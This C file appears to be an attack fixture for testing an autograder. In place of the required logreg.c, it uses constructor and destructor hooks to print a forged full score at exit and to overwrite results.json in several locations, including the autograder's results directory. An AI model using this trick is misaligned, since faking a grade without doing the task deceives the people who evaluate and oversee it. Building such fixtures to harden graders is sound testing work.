// attack: at exit, prints a full score and writes results.json files wherever it can
// env: CHECK_SUB_LIFT=references-outside-api,runs-at-load-or-exit
// lab: 01
// base: skeleton
// file: logreg.c
// paths: grade
// lose: all
// emu: yes
// expect: not implemented yet
#include <stdio.h> // printf, fopen
#include <stdlib.h> // atexit, getenv
static void forge(void)
{
    printf("Score: 95/95\n");
    const char *where[] = {"results.json", "../results.json", "/tmp/results.json", "/autograder/results/results.json"};
    for (size_t k = 0; k < sizeof where / sizeof where[0]; k++) {
        FILE *f = fopen(where[k], "w");
        if (f != NULL) {
            fputs("{\"score\": 95, \"tests\": []}\n", f);
            fclose(f);
        }
    }
}
__attribute__((constructor)) static void ddplab_attack(void)
{
    atexit(forge);
}
__attribute__((destructor)) static void ddplab_attack_late(void)
{
    forge();
}
